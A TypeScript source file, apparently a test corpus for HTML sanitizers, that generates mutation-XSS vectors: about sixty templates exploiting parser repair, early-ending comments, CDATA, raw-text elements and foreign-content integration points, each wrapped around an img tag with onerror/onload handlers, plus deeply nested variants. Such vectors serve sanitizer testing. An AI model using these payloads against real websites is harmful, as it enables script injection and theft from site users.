// Markup that changes its meaning when it is written down and parsed again: wrong nesting that parsers repair, comments
// that end early, integration points, attributes that hold the end of the element around them.
import { cross, type Template } from './vector.ts';

const PAYLOAD = '<img src=HIT.png width=600 height=400 onerror=RUN onload=RUN>';
const QUOTED = '&lt;img src=HIT.png onerror=RUN onload=RUN&gt;';

/** Frames in which a piece of text or an attribute is to become markup: `IN` is the payload, `ESC` the same escaped. */
const TRICKS: readonly Template[] = [
  '<math><mtext><table><mglyph><style><!--</style><a title="--&gt;ESC">',
  '<math><mtext><table><mglyph><svg><mtext><style><path id="</style>IN">',
  '<form><math><mtext></form><form><mglyph><style></math>IN',
  '<svg></p><style><a id="</style>IN">',
  '<svg></br><style><a id="</style>IN">',
  '<svg><p><style><a title="</style>IN"></style>',
  '<svg><desc><table><path><style><a title="</style>IN">',
  '<math><mi><table><mi><style><a title="</style>IN">',
  '<svg><style>&lt;/style>ESC</style></svg>',
  '<math><style>&lt;/style>ESC</style></math>',
  '<svg><![CDATA[</svg>IN]]></svg>',
  '<math><![CDATA[<mi></math>IN]]></math>',
  '<![CDATA[ ESC ]]>',
  '<!-- --!> IN -->',
  '<!--><p>IN-->',
  '<!---><p>IN-->',
  '<!-- <!-- --> IN -->',
  '<?xml-stylesheet > IN ?>',
  '<!DOCTYPE x [<!ENTITY e "ESC">]>IN',
  '</ IN>',
  '<a title="</noscript>IN">attribute</a>',
  '<a title="</title>IN">attribute</a>',
  '<a title="</textarea>IN">attribute</a>',
  '<a title="</style>IN">attribute</a>',
  '<a title="--&gt;ESC">attribute</a>',
  "<a title='`IN`'>backtick</a>",
  '<img alt="``onerror=RUN" src=HIT.png>',
  '<p title="&lt;/p&gt;ESC" lang="&quot;&gt;ESC">entities</p>',
  '<table><tr><td>x</td>IN</tr>IN</table>',
  '<table><caption><svg><desc><table><tr><style><a id="</style>IN">',
  '<select><template>IN</template><style></select>IN</style></select>',
  '<select><option><svg><style></option></select>IN</style>',
  '<template><template>IN</template></template>',
  '<template shadowrootmode=open>IN</template>',
  '<div><template shadowrootmode=closed>IN</template></div>',
  '<b><p><a></b>IN</p></a>',
  '<a><table><a>IN</a></table></a>',
  '<p><svg><foreignObject><p>IN</p></foreignObject></svg></p>',
  '<svg><foreignObject><math><mtext><style><a title="</style>IN">',
  '<math><annotation-xml encoding="application/xhtml+xml"><svg><style><a title="</style>IN">',
  '<math><annotation-xml encoding="text/html"><style><a title="</style>IN">',
  '<math><ms><textarea></ms>IN</textarea></math>',
  '<svg><title><textarea></title>IN</textarea></svg>',
  '<svg><text><title><noembed></title>IN</noembed></text></svg>',
  '<noscript><p title="</noscript>IN"></noscript>',
  '<noscript><!-- </noscript>IN --></noscript>',
  '<xmp><p title="</xmp>IN"></xmp>',
  '<noembed><p title="</noembed>IN"></noembed>',
  '<style><p title="</style>IN"></style>',
  '<textarea><p title="</textarea>IN"></textarea>',
  '<iframe><p title="</iframe>IN"></iframe>',
  '<frameset><frame onload=RUN></frameset>',
  '<isindex prompt="ESC">',
  '<div></div\t\nIN></div>',
  '<svg><svg></svg></p>IN',
  '<dl><dt><dd><math><mtext><dl><dt><style><a id="</style>IN">',
  '<ruby><rt><svg><style><rt><a id="</style>IN">',
  '<h1><h2><svg><style></h2><a id="</style>IN">',
  '<nobr><svg><nobr><style><a id="</style>IN">',
  '<button><svg><button><style><a id="</style>IN">',
  '<option><svg><option><style><a id="</style>IN">',
  '<math><mglyph><p><style><a title="</style>IN">',
  '<math><malignmark><p><style><a title="</style>IN">',
  '<keygen autofocus onfocus=RUN>IN',
  '<object><param name=movie value=HIT><svg><style><a id="</style>IN"></object>',
  '<meter onmouseover=RUN value=1>IN</meter>',
];

const DEEP = ['b', 'svg', 'math', 'table', 'div'].map(
  (name) => `${`<${name}>`.repeat(300)}<style><a title="</style>${PAYLOAD}">`,
);

/** Mutation vectors. */
export const MUTATION: readonly Template[] = [
  ...cross(TRICKS, ['', '<p>'], (trick, before) =>
    `${before}${trick}`.replaceAll('IN', PAYLOAD).replaceAll('ESC', QUOTED),
  ),
  ...DEEP,
];
